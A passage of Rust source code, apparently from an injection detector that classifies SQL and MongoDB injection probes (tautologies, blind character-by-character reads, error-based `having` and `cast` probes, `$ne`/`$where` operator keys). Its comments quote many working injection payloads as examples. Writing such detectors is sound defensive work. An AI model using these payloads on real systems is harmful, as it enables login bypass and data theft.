    if call && comparison_at(text, skip(end, b" )")).is_none() {
        let args = &text[paren + 1..end - 1];
        let code = memchr::memchr3(b'(', b'\'', b'"', args).is_some()
            || memchr::memchr3(b'=', b'<', b'>', args).is_some();
        let after = &text[skip(end, b" )")..];
        if code
            && if after_number {
                ends_statement(after)
            } else {
                (comment_after(after) || open_quote_after(after, quotes)) && closes()
            }
        {
            return true;
        }
    }
    // Arithmetic with numbers on the call is the call still (`length(password)+0>5`).
    if call {
        end = past_arithmetic(text, end);
    }
    let at = skip(end, b" )");
    let Some(comparison) = comparison_at(text, at) else {
        // A literal's range or null test that holds, or `not` before 0 or before two glued literals compared,
        // ending a numeric injection (`id=1 and 1 between 0 and 2`, `id=1 and 1 is not null`, `null is null`,
        // `id=1 and not 0`, `id=1 or not 1=2`): the blind probe's truth with no comment after it, as `id=1 and 1
        // in (1)`'s — a number in any of SQL's spellings (`1.0 between 0 and 2e0`, `0x1 is true`), and literals
        // chained after it that keep its truth (`… and 1`). Prose goes on past them ("pick 1 and 1 between 0 and 2
        // items", "Page 1 and not 0 items").
        if after_number && !left_quoted && !call && numeric_predicate(text, at, left) {
            return true;
        }
        // A name's or call's `in (…)`, `between … and …`, `is [not] null`, with a comment after it as a name's
        // ordering needs (`' or id between 1 and 2--`).
        if call || !(literal(left, left_quoted) || left == b"not" || left == b"true") {
            // A name between one name twice ending a numeric injection's own value (`id=1 or x between y and y`):
            // two names compared (`id=1 or x=y`) in the range's spelling, as sqlmap's `between` tamper writes one.
            if own_value
                && !call
                && !left_quoted
                && names_between(&text[at..])
                    .is_some_and(|n| ends_statement(&text[skip(at + n, b" )")..]))
            {
                return true;
            }
            // A blind function's call in a numeric injection needs no comment after it, as its comparison needs
            // none: `id=1 and length(database()) between 1 and 9`.
            let end_reads =
                |rest: &[u8]| comment_after(rest) || (call && after_number && ends_statement(rest));
            return predicate_end(text, at, left, calls)
                .is_some_and(|end| end_reads(&text[skip(end, b" )")..]))
                && (after_number || closes());
        }
        // A number in any spelling, signed (`' or -1--`); quoted too (`' or '1`: MySQL reads `'1'` as 1).
        let truthy = left == b"true"
            || (compound_value(left)
                .or_else(|| {
                    (!left.is_empty() && number_len(left) == left.len())
                        .then(|| sql_number(left))
                        .flatten()
                })
                .is_some_and(|v| v != 0.0));
        // A comment (or `;`) must follow: "rooms=1 or 2" is prose, and the quote the query closes an injected
        // string with would follow an end.
        let before_end = |at: usize| !text[at..].is_empty() && ends_statement(&text[at..]);
        // Or, after a quote, an `or` and a quote left open (`' or 1 or '`), or the truth is that open string (`'
        // or '1`): MySQL and SQLite read `'1'` as the number 1, PostgreSQL as true.
        let open_after = !after_number
            && (open_quote_after(&text[at..], quotes)
                || (left_open && left_quoted && end == text.len()));
        if truthy && (before_end(at) || open_after) {
            return true;
        }
        // A string left open that MySQL reads as the number it starts with, where a comparison follows that number:
        // `' or '1=1` and `'or'1=1` are `'' or '1=1'`, true as `'1'` is ("'90s pop" is prose).
        if left_open && left_quoted && end == text.len() && !after_number {
            let content = self::skip(left, b" ");
            let n = number_len(content);
            // Blanks may part the number from its comparison: `'or'1 =1` is `'1 =1'`, 1 as well.
            let blanks = content[n..].iter().take_while(|&&b| b == b' ').count();
            if n > 0
                && comparison_at(content, n + blanks).is_some()
                && sql_number(&content[..n]).is_some_and(|v| v != 0.0)
            {
                return true;
            }
        }
        // `true` itself ending a numeric injection (`id=1 and true`): no number stands for it ("rooms=1 or 2" is
        // prose), and a word after it is prose ("1 and true love") — a chain of literals is not (`id=1 and true and
        // 1`).
        if after_number && left == b"true" && !left_quoted && chain_ends(text, end) {
            return true;
        }
        // A literal's `in (…)` that holds or lists a blind call, ending a numeric injection (`id=1 and 1 in (1)`,
        // `id=1 and 'a' in (substr(password,1,1))`, `id=1 and true in (length(password))`).
        if after_number
            && (literal(left, left_quoted) || left == b"true")
            && literal_in_list(text, at, &text[left_at..end], left, calls)
        {
            return true;
        }
        // After a quote, an `or` and a quote left open may follow it too (`' or 1 in (1) or '`).
        return (literal(left, left_quoted) || left == b"not")
            && predicate_end(text, at, left, calls).is_some_and(|end| {
                let end = skip(end, b" )");
                // Maybe after a chain of literals that keeps its truth (`' or not 0 and 1--`).
                before_end(end)
                    || (!text[end..].is_empty() && comment_after(&text[end..]))
                    || (!after_number && open_quote_after(&text[end..], quotes))
            });
    };
    let equality = matches!(
        comparison,
        b"=" | b"==" | b"<=>" | b"like" | b"rlike" | b"regexp" | b"sounds like"
    );
    let right_at = skip(at + comparison.len(), b" (");
    if case_expression(&text[right_at..]) {
        return after_number || closes();
    }
    // A call on the right that reads data — any after a quote that ends a string (then a comment or an open quote
    // after it), one of [`BLIND_FUNCTIONS`] or one wrapping one after a number: the error-based probe's `1=cast(user()
    // as int)`, whose failed conversion prints the user.
    if let Some((name, name_end, false)) = quoted_call_name(text, right_at)
        .map(|(name, end)| (name, end, false))
        .or_else(|| operand(text, right_at, true))
    {
        let paren = skip(name_end, b" ");
        if text.get(paren) == Some(&b'(') {
            if let Some(close) = calls.close(text, paren) {
                let args = &text[paren + 1..close];
                let after = &text[skip(close + 1, b" )")..];
                // A call, a string, a variable (`@@version`) or a niladic name (`current_user`) in its arguments.
                let reads = memchr::memchr3(b'(', b'\'', b'"', args).is_some()
                    || memchr::memchr(b'@', args).is_some()
                    || [
                        &b"current_user"[..],
                        b"session_user",
                        b"system_user",
                        b"user",
                    ]
                    .iter()
                    .any(|name| keyword_at(args, name).is_some())
                    // A condition picking the value (`1 rlike if(1=1,1,0x28)`, `1=elt(1=1,1)`).
                    || (matches!(name, b"if" | b"iif" | b"elt" | b"make_set") && {
                        // (`text` is a suffix of the text `calls` indexes.)
                        let base = calls.text.len() - text.len();
                        calls.picks_by_condition(base + paren, base + close)
                    });
                if after_number {
                    if (BLIND_FUNCTIONS.contains(&name) || calls.wraps_blind(text, paren))
                        && literal(left, left_quoted)
                        && reads
                        && ends_statement(after)
                    {
                        return true;
                    }
                } else if reads
                    && (comment_after(after) || open_quote_after(after, quotes))
                    && closes()
                {
                    return true;
                }
            }
        }
    }
    operand_at(right_at, false).is_some_and(|(right, end, quoted)| {
        // The query's own quote closes a string the comparison leaves open: `' and substr(pw,1,1)='a`, and a
        // column's pattern read a character at a time (`' or password regexp '^a`, `' or name like 'a%`).
        let open_right =
            quoted && end == text.len() && !text[right_at + 1..].contains(&text[right_at]);
        if call {
            if open_right {
                return true;
            }
        } else if !after_number && !literal(left, left_quoted) && open_right {
            return closes();
        } else if after_number
            && literal(left, left_quoted)
            && literal(right, quoted)
            && text[at - 1] != b' '
            && text.get(at + comparison.len()) != Some(&b' ')
        {
            // Two literals compared in a numeric injection, true or false: blind injection asks both
            // (`id=1 and 1=1`, `id=1 and 1=2`) and reads the difference — glued, as code writes them ("5 and 10
            // = 15" is arithmetic; a false one reads no data). Not before a word SQL cannot read there ("size=10*20
            // and 5=5 cm", "dims=2*3 or 4=4 inches": a unit): the query would fail whatever it asks, and no
            // sqlmap suffix ends so (they end the value, comment the rest out or go on with SQL).
            return !unit_after(&text[end..]);
        } else if after_number
            && !literal(left, left_quoted)
            && quoted
            && match comparison {
                b"like" => right.ends_with(b"%"),
                b"rlike" | b"regexp" => right.starts_with(b"^"),
                _ => false,
            }
        {
            // A column's pattern read a character at a time in a numeric injection (`id=1 and password like
            // 'a%'`, `id=1 and password regexp '^a'`).
            return true;
        } else if own_value
            && equality
            && !left_quoted
            && !quoted
            && !literal(left, false)
            && !literal(right, false)
            && ends_statement(&text[skip(end, b" )")..])
        {
            // Two names compared in a numeric injection that ends the value (`id=1 or x=y`): a column against a
            // column, the probe's condition whatever the data makes of it, as a name's ordering is (`id=1 or
            // id>0`). Prose and code go on past it ("if a=1 or b=c then"); a ticket's settings are no value of
            // their own ("I set debug=1 and mode=verbose").
            return true;
        } else if equality || (literal(left, left_quoted) && literal(right, quoted)) {
            return holds(left, comparison, right);
        }
        // A column against a value with a comment after it (`' or id>0--`), or an open quote after it (`' or id>0
        // or '`), or any such ordering in a numeric injection (`id=1 or id>0`): the injection's shape, whatever
        // the data makes of it — after a quote that ends a string, not one that opens one (`'x' and len(b) > 5; #
        // note` is inside the string its second quote opens).
        let after = &text[skip(end, b" )")..];
        after_number || ((comment_after(after) || open_quote_after(after, quotes)) && closes())
    })
}

/// Words SQL reads after a comparison's right operand: an operator, a clause, a set operation or a `case`'s word,
/// in any dialect (SQLite's `glob`, `match`, `isnull`, `notnull`; MySQL's `member of`; PostgreSQL's `ilike`,
/// `similar to`; SQL Server's `option (…)`; Oracle's `connect by`, `start with`, `model`; `qualify`), a join's
/// (a probe in an `on`), an `order by` key's — and, as SQL Server runs a batch's statements without a `;` between
/// them, a statement's first word (`id=1 and 5=5 select password from users`).
const AFTER_OPERAND: &[&[u8]] = &[
    // Operators.
    b"and",
    b"or",
    b"xor",
    b"not",
    b"is",
    b"isnull",
    b"notnull",
    b"in",
    b"like",
    b"ilike",
    b"similar",
    b"rlike",
    b"regexp",
    b"glob",
    b"match",
    b"member",
    b"between",
    b"sounds",
    b"div",
    b"mod",
    b"collate",
    b"escape",
    // Clauses, set operations, joins, sort keys' words.
    b"order",
    b"group",
    b"having",
    b"qualify",
    b"window",
    b"limit",
    b"offset",
    b"fetch",
    b"union",
    b"intersect",
    b"except",
    b"minus",
    b"procedure",
    b"into",
    b"for",
    b"lock",
    b"option",
    b"connect",
    b"start",
    b"model",
    b"returning",
    b"on",
    b"using",
    b"where",
    b"from",
    b"as",
    b"join",
    b"inner",
    b"cross",
    b"natural",
    b"straight_join",
    b"left",
    b"right",
    b"full",
    b"outer",
    b"asc",
    b"desc",
    b"nulls",
    // A `case`'s words.
    b"then",
    b"else",
    b"end",
    b"when",
    // SQL Server's statements, which a batch runs one after another without a `;`.
    b"select",
    b"with",
    b"insert",
    b"update",
    b"delete",
    b"merge",
    b"truncate",
    b"bulk",
    b"create",
    b"alter",
    b"drop",
    b"grant",
    b"deny",
    b"revoke",
    b"exec",
    b"execute",
    b"declare",
    b"set",
    b"print",
    b"raiserror",
    b"throw",
    b"if",
    b"while",
    b"begin",
    b"break",
    b"continue",
    b"goto",
    b"return",
    b"waitfor",
    b"use",
    b"kill",
    b"shutdown",
    b"reconfigure",
    b"checkpoint",
    b"dbcc",
    b"backup",
    b"restore",
    b"open",
    b"close",
    b"deallocate",
    b"commit",
    b"rollback",
    b"save",
    b"revert",
    b"setuser",
    b"enable",
    b"disable",
    b"receive",
    b"send",
    b"get",
    b"move",
    b"readtext",
    b"writetext",
    b"updatetext",
];

/// Whether `rest` (after a comparison's right operand, blanks and `)` skipped) goes on with a word SQL cannot read
/// there ([`AFTER_OPERAND`]), as prose does with a unit ("5=5 cm", "4=4 inches") — not a label (`x:`), which starts
/// a statement of SQL Server's batch.
fn unit_after(rest: &[u8]) -> bool {
    let (name, after) = word(skip(rest, b" )"));
    name.first().is_some_and(u8::is_ascii_alphabetic)
        && !AFTER_OPERAND.contains(&name)
        && skip(after, b" ").first() != Some(&b':')
}

/// The comparison operator `text` holds at `at`, if any: a word operator ends where a word does, glued to the right
/// operand's quote or `(` (`'x'LIKE'x`) as well as before a blank — but `likes` is a name.
fn comparison_at(text: &[u8], at: usize) -> Option<&'static [u8]> {
    [
        &b"<=>"[..],
        b"<>",
        b"<=",
        b">=",
        b"!=",
        b"==",
        b"=",
        // MySQL's `soundex(a) = soundex(b)`: `' or 'a' sounds like 'a` holds as `'a'='a'` does.
        b"sounds like",
        b"like",
        // MySQL's regular-expression match: `1 rlike 1` holds as `1 like 1` does.
        b"rlike",
        b"regexp",
        b"<",
        b">",
    ]
    .into_iter()
    .find(|c| {
        text.get(at..).is_some_and(|rest| rest.starts_with(c))
            && !(c[0].is_ascii_alphabetic()
                && text
                    .get(at + c.len())
                    .is_none_or(|b| b.is_ascii_alphanumeric() || *b == b'_'))
    })
}

/// Whether `text` starts with a `case when … then … end` expression (maybe after blanks and `(`): `case`, `when`
/// (after a gap or glued to `(`), and the words `then` and `end` in that order within a window.
fn case_expression(text: &[u8]) -> bool {
    let Some(rest) = skip(text, b" (").strip_prefix(b"case") else {
        return false;
    };
    let gap = sql_gap(rest, true);
    if gap.len() == rest.len() {
        return false;
    }
    let Some(rest) = gap.strip_prefix(b"when") else {
        return false;
    };
    if rest
        .first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return false;
    }
    let window = &rest[..rest.len().min(1024)];
    keyword_at(window, b"then").is_some_and(|then| keyword_at(&window[then..], b"end").is_some())
}

/// Whether `text` counts a query's columns by ordering by one (`id=1 order by 5--`, `x' order by 5#`), the
/// reconnaissance before a `union`: `order by` or `group by` and a column's number (or a list of them, `order by
/// 1,2,3`; maybe `asc`/`desc`), after a number a value starts with (then a comment or the end) or
/// after a quote that ends a string ([`closing_quotes`]; then a comment). "Place your order by 5pm" puts a word
/// first, and a unit after the number.
fn column_count_probe(text: &[u8]) -> bool {
    // `order by`/`group by`, column numbers separated by `,` (`order by 1,2,3`), a direction, then a comment, or
    // after a number the end (a `;` ends a snippet's `WHERE id=1 ORDER BY 2;`).
    let probe = |rest: &[u8], after_number: bool| {
        let (order, rest) = word(sql_gap(skip(rest, b" )"), false));
        let (by, mut rest) = word(sql_gap(rest, false));
        if !matches!(order, b"order" | b"group") || by != b"by" {
            return false;
        }
        loop {
            let column = sql_gap(rest, false);
            let digits = column.iter().take_while(|b| b.is_ascii_digit()).count();
            if digits == 0 {
                return false;
            }
            rest = skip(&column[digits..], b" ");
            match rest.strip_prefix(b",") {
                Some(next) => rest = next,
                None => break,
            }
        }
        let (direction, after) = word(rest);
        let after = if matches!(direction, b"asc" | b"desc") {
            after
        } else {
            rest
        };
        if after
            .first()
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        {
            return false;
        }
        let after = skip(after, b" ");
        comment_after(after) || (after_number && after.is_empty())
    };
    if memchr::memmem::find(text, b"order").is_none()
        && memchr::memmem::find(text, b"group").is_none()
    {
        return false;
    }
    let closing = std::cell::OnceCell::new();
    after_leading_numbers(text).any(|(end, _, _)| probe(&text[end..], true))
        || memchr::memchr2_iter(b'\'', b'"', text).any(|i| {
            probe(&text[i + 1..], false)
                && closing
                    .get_or_init(|| closing_quotes(text))
                    .binary_search(&i)
                    .is_ok()
        })
}

/// Whether `text` appends a `having` clause to the query, with or without a `group by` before it — the error-based
/// probes (`' or 1 group by concat(user(),floor(rand(0)*2)) having min(0)#`, MySQL's duplicate key naming the user;
/// SQL Server's `' having 1=1--`, whose error names a column): after a number a value starts with, or after a quote
/// that ends a string ([`closing_quotes`]), maybe an `or`/`and`/`xor` and one operand, then `having` (after `group
/// by …` or alone) and a condition — a comparison or a call — that ends the statement. Prose puts no clause right
/// after a quote that closes a string or a value's number ("Sort the 'sales' group by region having the most
/// revenue" has words for a condition).
fn having_probe(text: &[u8]) -> bool {
    if keyword_at(text, b"having").is_none() {
        return false;
    }
    let probe = |rest: &[u8]| {
        let mut rest = sql_gap(skip(rest, b" )"), false);
        let connective = [&b"||"[..], b"&&"]
            .into_iter()
            .find_map(|op| rest.strip_prefix(op))
            .or_else(|| {
                let (w, after) = word(rest);
                matches!(w, b"or" | b"and" | b"xor").then_some(after)
            });
        if let Some(after) = connective {
            let operand = sql_gap(after, false);
            match operand_end(operand) {
                Some(end) => rest = sql_gap(&operand[end..], false),
                None => return false,
            }
        }
        // The condition after `having`: a comparison, or a call (`min(0)`), ending the statement.
        let condition_reads = |after: &[u8]| {
            let condition = sql_gap(after, false);
            if condition.len() == after.len() && !condition.starts_with(b"(") {
                return false;
            }
            let window = &condition[..condition.len().min(1024)];
            let Some(end) = operand_end(window) else {
                return false;
            };
            let first = &window[..end];
            let reads = memchr::memchr3(b'=', b'<', b'>', first).is_some()
                || (memchr::memchr(b'(', first).is_some() && first.ends_with(b")"));
            let tail = skip(&window[end..], b" ");
            match comparison_at(tail, 0).and_then(|c| {
                let right = skip(&tail[c.len()..], b" ");
                operand_end(right).map(|e| &right[e..])
            }) {
                Some(after) => ends_statement(after),
                None => reads && ends_statement(tail),
            }
        };
        let (clause, after) = word(rest);
        match clause {
            b"group" => {
                let (by, after) = word(sql_gap(after, false));
                if by != b"by" {
                    return false;
                }
                let window = &after[..after.len().min(1024)];
                keyword_at(window, b"having")
                    .is_some_and(|at| condition_reads(&window[at + b"having".len()..]))
            }
            b"having" => condition_reads(after),
            _ => false,
        }
    };
    let closing = std::cell::OnceCell::new();
    after_leading_numbers(text).any(|(end, _, _)| probe(&text[end..]))
        || memchr::memchr2_iter(b'\'', b'"', text).any(|i| {
            probe(&text[i + 1..])
                && closing
                    .get_or_init(|| closing_quotes(text))
                    .binary_search(&i)
                    .is_ok()
        })
}

/// MongoDB's query operators that turn a login's or a lookup's value into a condition that matches other documents
/// (`$ne`, `$gt`, `$regex`, `$where`, …).
const NOSQL_OPERATORS: &[&[u8]] = &[
    b"ne",
    b"gt",
    b"gte",
    b"lt",
    b"lte",
    b"in",
    b"nin",
    b"regex",
    b"where",
    b"exists",
    b"expr",
    b"type",
    b"elemmatch",
    b"all",
    b"size",
    b"mod",
    b"function",
    b"accumulator",
    // `{password: {$not: {$eq: "x"}}}`: every other password.
    b"not",
];

/// Strapi's filter operators that MongoDB also reads (Strapi's own `$eq`, `$containsi`, `$notIn`… are no MongoDB
/// operators): under a `filters` key, Strapi's documented parameter (`filters[price][$gt]=5`,
/// `filters[$not][title][$eq]=x`, `populate[author][filters][name][$ne]=bob`), they are Strapi's, which its query
/// engine binds as parameters.
const STRAPI_OPERATORS: &[&[u8]] = &[b"ne", b"gt", b"gte", b"lt", b"lte", b"in", b"not"];

/// Whether a form, query or cookie pair's key makes its value a MongoDB operator: `user[$ne]=x`,
/// `password[$gt]=` — PHP, Express's `qs` and Rack read it as `{user: {$ne: "x"}}`, which a driver given the value
/// runs as "any user but x" — in any of its brackets: `filter[user][$ne]=x` is `{filter: {user: {$ne: "x"}}}`, and
/// an origin that hands `filter` to `find` runs it alike. Strapi's documented filters put the operator in a
/// bracket under `filters` (`filters[title][$eq]=x`, `filters[$or][0]…`), where its operators pass
/// ([`STRAPI_OPERATORS`]) and MongoDB's own (`$regex`, `$where`, `$nin`…) do not. Or `text` holds a JSON key that
/// is a MongoDB operator (`{"user":{"$ne":null}}` in a query value an origin parses as JSON).
fn nosql_operator(text: &[u8]) -> bool {
    let name = text
        .iter()
        .take_while(|b| !matches!(b, b'[' | b'=' | b' '))
        .count();
    // A key that is itself an operator MongoDB runs at a query's top level, `$where=…` or `[$where]=…` (`qs` drops
    // the empty name): `User.find(req.query)` runs its JavaScript, as a JSON body's `{"$where":…}`.
    let top = if name == 0 {
        text.strip_prefix(b"[")
            .and_then(|t| t.iter().position(|&b| b == b']').map(|end| &t[..end]))
    } else {
        Some(&text[..name])
    };
    if top.is_some_and(|key| matches!(key, b"$where" | b"$expr")) {
        return true;
    }
    // Strapi's `filters` stands at the top (`filters[…]`) or as a populated relation's (`populate[author][filters]…`,
    // `populate[a][populate][b][filters]…`, a dynamic zone's fragment `populate[zone][on][shared.hero][filters]…`),
    // the key's segments before it alternating `populate` (or `on`) and a name; once there, what follows it is
    // Strapi's. Anywhere else (`user[filters][$ne]=x`) it is an object's key like any.
    let mut strapi = &text[..name] == b"filters";
    // How the segments so far read as Strapi's `populate` path: `Some(true)` after `populate` or `on`, `Some(false)`
    // after a relation's or component's name, `None` once they do not.
    let mut populate = (&text[..name] == b"populate").then_some(true);
    let mut rest = &text[name..];
    while let Some(segment) = rest.strip_prefix(b"[") {
        let Some(close) = memchr::memchr2(b']', b'=', segment).filter(|&c| segment[c] == b']')
        else {
            break;
        };
        let (key, after) = (&segment[..close], &segment[close + 1..]);
        if let Some(operator) = key.strip_prefix(b"$") {
            if name > 0
                && NOSQL_OPERATORS.contains(&operator)
                && !(strapi && STRAPI_OPERATORS.contains(&operator))
            {
                return true;
            }
        }
        populate = match populate {
            Some(true) => Some(false),
            // A dynamic zone's fragment names its component after `on`: `populate[zone][on][shared.hero][filters]`.
            Some(false) if key == b"populate" || key == b"on" => Some(true),
            Some(false) => {
                strapi |= key == b"filters";
                None
            }
            None => None,
        };
        rest = after;
    }
    json_operator_key(text)
}

/// Whether `text` holds a quoted key that is a MongoDB operator ([`NOSQL_OPERATORS`]) and then `:` — JSON's
/// `{"user":{"$ne":null}}`, `{"$where":"…"}`, `{"password":{"$regex":"^a"}}`, which a driver runs as a query.
/// JSON Schema's `$ref`, `$schema`, `$id` and MongoDB's extended JSON (`$oid`, `$date`) name no operator.
fn json_operator_key(text: &[u8]) -> bool {
    memchr::memmem::find_iter(text, b"\"$")
        .chain(memchr::memmem::find_iter(text, b"'$"))
        .any(|at| {
            let quote = text[at];
            let (operator, rest) = word(&text[at + 2..]);
            if !(NOSQL_OPERATORS.contains(&operator) && rest.first() == Some(&quote)) {
                return false;
            }
            let Some(value) = skip(&rest[1..], b" ").strip_prefix(b":") else {
                return false;
            };
            let value = skip(value, b" ");
            operator != b"type"
                || !value.starts_with(&[quote])
                || value[1..]
                    .iter()
                    .position(|&b| b == quote)
                    .is_none_or(|end| bson_type_alias(&value[1..1 + end]))
        })
}

/// Whether `name` (any case) is one of the BSON type aliases MongoDB's `$type` matches by (`{"password":{"$type":
/// "string"}}` is any password). System.Text.Json's and Json.NET's `$type` discriminator names a .NET type
/// (`{"$type":"Circle"}`, `{"$type":"Shop.Order, Shop"}`) and passes.
fn bson_type_alias(name: &[u8]) -> bool {
    [
        &b"double"[..],
        b"string",
        b"object",
        b"array",
        b"bindata",
        b"undefined",
        b"objectid",
        b"bool",
        b"date",
        b"null",
        b"regex",
        b"dbpointer",
        b"javascript",
        b"symbol",
        b"javascriptwithscope",
        b"int",
        b"timestamp",
        b"long",
        b"decimal",
        b"minkey",
        b"maxkey",
        b"number",
    ]
    .iter()
    .any(|alias| name.eq_ignore_ascii_case(alias))
}

/// Whether `text` starts with a comment, maybe after a `;` and blanks (`' and length(pw)>5;--`): the end of an
/// injected condition whose query is commented out.
fn comment_after(text: &[u8]) -> bool {
    let starts = |text: &[u8]| {
        let text = text
            .strip_prefix(b";")
            .map_or(text, |rest| skip(rest, b" "));
        [&b"#"[..], b"--", b"/*"]
            .iter()
            .any(|m| text.starts_with(m))
    };
    starts(text) || {
        // Or after a chain of literals (`' and ascii(…)>64 and 1--`, `' or id>0 and 1#`), read within a window.
        let window = &text[..text.len().min(1024)];
        let chain = literal_chain(window);
        chain.len() < window.len() && starts(chain)
    }
}

/// `text` past the chain of `and`/`or`/`xor`/`&&`/`||` and literals (numbers in any spelling, `true`, `false`) it
/// starts with; `text` itself when it starts with none.
fn literal_chain(text: &[u8]) -> &[u8] {
    let mut rest = text;
    while let Some((_, _, next)) = chain_link(rest) {
        rest = next;
    }
    rest
}

/// Which literals an operator of a chain keeps a predicate's truth with: `and` any but 0, `xor` 0 alone, `or` any.
#[derive(Clone, Copy)]
enum Keeps {
    Nonzero,
    Zero,
    Any,
}

impl Keeps {
    fn keeps(self, value: f64) -> bool {
        match self {
            Keeps::Nonzero => value != 0.0,
            Keeps::Zero => value == 0.0,
            Keeps::Any => true,
        }
    }
}

/// The link of a chain of literals `rest` starts with: an operator — `and`/`or` (MySQL's `xor` too) before a blank or
/// glued to a `(` (`and(1)`), as SQL reads them; `&&`/`||` glued to anything — and a literal after it in any of
/// SQL's spellings, a constant expression too (`and -(-1)`), `true` or `false`. Returns what the operator keeps a
/// truth with, the literal's value and `rest` past both (blanks and `)` skipped); None when `rest` starts with none.
fn chain_link(rest: &[u8]) -> Option<(Keeps, f64, &[u8])> {
    let (keeps, tail) = chain_operator(rest)?;
    let (len, value) = match const_expression(tail) {
        Some((len, value, _)) => (len, value),
        None => match word(tail).0 {
            b"true" => (4, 1.0),
            b"false" => (5, 0.0),
            _ => return None,
        },
    };
    if tail
        .get(len)
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return None;
    }
    Some((keeps, value, skip(&tail[len..], b" )")))
}

/// The operator of a chain's link `rest` starts with — `and`/`or` (MySQL's `xor` too) before a blank or glued to a
/// `(` (`and(1)`), as SQL reads them; `&&`/`||` glued to anything — with what it keeps a truth with, and `rest` past
/// it (blanks and `(` skipped).
fn chain_operator(rest: &[u8]) -> Option<(Keeps, &[u8])> {
    [
        (Keeps::Nonzero, &b"and"[..]),
        (Keeps::Nonzero, b"&&"),
        (Keeps::Any, b"or"),
        (Keeps::Any, b"||"),
        (Keeps::Zero, b"xor"),
    ]
    .into_iter()
    .find_map(|(keeps, op)| {
        let tail = rest.strip_prefix(op)?;
        (!op[0].is_ascii_alphabetic() || matches!(tail.first(), Some(b' ' | b'(')))
            .then(|| (keeps, skip(tail, b" (")))
    })
}

/// Whether `text` is an `or`/`and`/`||`/`&&` and then a quote left open to the end (an odd number of that quote
/// from it): the quote a query around an injected string closes (`' or id>0 or '`, `' or id>0 and ''='`).
fn open_quote_after(text: &[u8], quotes: &QuoteParity<'_>) -> bool {
    let Some(rest) = [&b"or "[..], b"and ", b"||", b"&&"]
        .iter()
        .find_map(|op| text.strip_prefix(*op))
    else {
        return false;
    };
    match skip(rest, b" ").first() {
        Some(&quote @ (b'\'' | b'"')) => quotes.odd_in(rest, quote),
        _ => false,
    }
}

/// Where a predicate on the literal `left` that ends at `at` ends, when what follows reads as one whose truth is
/// the injection's: `in (…)`, `between A and B`, `is [not] null`; or, for `left` = `not`, a literal after it.
fn predicate_end(text: &[u8], at: usize, left: &[u8], calls: &Calls<'_>) -> Option<usize> {
    let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    let after = |tail: &[u8]| Some(text.len() - tail.len());
    let literal = |tail: &[u8]| -> Option<usize> {
        match *tail.first()? {
            quote @ (b'\'' | b'"') => {
                let window = &tail[1..tail.len().min(1025)];
                memchr::memchr(quote, window).and_then(|n| after(&tail[n + 2..]))
            }
            _ => {
                let n = tail.iter().take_while(|b| b.is_ascii_digit()).count();
                (n > 0 && !tail.get(n).is_some_and(ident)).then(|| text.len() - tail.len() + n)
            }
        }
    };
    let rest = &text[at..];
    if left == b"not" {
        return literal(rest);
    }
    let is_rest = rest;
    // `not in (…)`, `not between … and …` read as their positive forms do.
    let rest = rest.strip_prefix(b"not ").map_or(rest, |r| skip(r, b" "));
    if let Some(list) = rest
        .strip_prefix(b"in ")
        .map(|r| skip(r, b" "))
        .and_then(|r| r.strip_prefix(b"("))
    {
        // To the `)` that closes it, past the calls in it (`1 in (ascii(substr(user(),1,1)))`), within a window as
        // every look-ahead here: from each quote of a text of `'or 1 in (` repeated, a search for `)` to the end made
        // the text's cost quadratic.
        let open = text.len() - list.len() - 1;
        return calls
            .close(text, open)
            .and_then(|close| after(&text[close + 1..]));
    }
    if let Some(range) = rest.strip_prefix(b"between ") {
        let low = literal(skip(range, b" "))?;
        let high = skip(skip(&text[low..], b" ").strip_prefix(b"and ")?, b" ");
        return literal(high);
    }
    let is = skip(is_rest.strip_prefix(b"is ")?, b" ");
    let is = is.strip_prefix(b"not ").map_or(is, |r| skip(r, b" "));
    let tail = is.strip_prefix(b"null")?;
    (!tail.first().is_some_and(ident)).then(|| text.len() - tail.len())
}

/// Whether `text` from `at`, after the literal `left` (spelled `spelled`: a string's with its quotes) of a numeric
/// injection's `and`/`or`, is its `[not] in (…)` ending the statement (maybe after a chain of literals, `… and 1`)
/// whose truth is the probe's: a list holding the literal itself (`1 in (1)`, `'a' in ('a')`), a call of one of
/// [`BLIND_FUNCTIONS`] reading the server's data or wrapping another (`1 in (ascii(substr(user(),1,1)))`, `97 in
/// (ascii(substr(password,1,1)))`), or one call of a column ([`blind_list`]: `5 in (length(password))`, `5 not in
/// (length(password))`, `length(password)<>5`).
fn literal_in_list(text: &[u8], at: usize, spelled: &[u8], left: &[u8], calls: &Calls<'_>) -> bool {
    // `not in (…)` only for a call reading the server's data, true for all but one character.
    let negated = text[at..].starts_with(b"not ");
    let Some(list) = skip(
        text[at..].strip_prefix(b"not ").unwrap_or(&text[at..]),
        b" ",
    )
    .strip_prefix(b"in")
    .map(|r| skip(r, b" "))
    .and_then(|r| r.strip_prefix(b"(")) else {
        return false;
    };
    // To the `)` that closes it, past the calls in it, within a window as every look-ahead here.
    let open = text.len() - list.len() - 1;
    let Some(close) = calls.close(text, open) else {
        return false;
    };
    let holds = !negated
        && text[open + 1..close]
            .split(|&b| b == b',')
            .any(|item| skip_back(skip(item, b" "), b" ") == spelled);
    // (`text` is a suffix of the text `calls` indexes.)
    let base = calls.text.len() - text.len();
    let reads = calls.wraps_blind(text, open)
        && (calls.reads_server(base + open, base + close)
            || calls.nested_blind(base + open, base + close));
    (holds || reads || blind_list(text, open, close, left, calls)) && chain_ends(text, close + 1)
}

/// Whether the list between the `(` at `open` and the `)` at `close` of `text` (a suffix of the text `calls`
/// indexes) is, for the literal `left` before its `in`, one call of one of [`BLIND_FUNCTIONS`] (maybe written again)
/// and numbers other than `left` (or `null`): `5 in (length(password), -1)` holds just when `length(password)=5` does. Each member may
/// stand in parentheses of its own (`5 in ((length(password)))`). The list is read once, member by member.
fn blind_list(text: &[u8], open: usize, close: usize, left: &[u8], calls: &Calls<'_>) -> bool {
    let gap = |at: usize, over: &[u8]| close - skip(&text[at..close], over).len();
    let mut first_call: Option<&[u8]> = None;
    let mut at = open + 1;
    loop {
        let start = gap(at, b" (");
        let (name, after_name) = word(&text[start..close]);
        let end = if BLIND_FUNCTIONS.contains(&name) {
            let paren = close - skip(after_name, b" ").len();
            if text.get(paren) != Some(&b'(') {
                return false;
            }
            let Some(end) = calls.close(text, paren) else {
                return false;
            };
            // The same call again adds no member that could hold otherwise (`5 in (length(password),
            // length(password))`); another call is another probe's.
            let call = &text[start..=end];
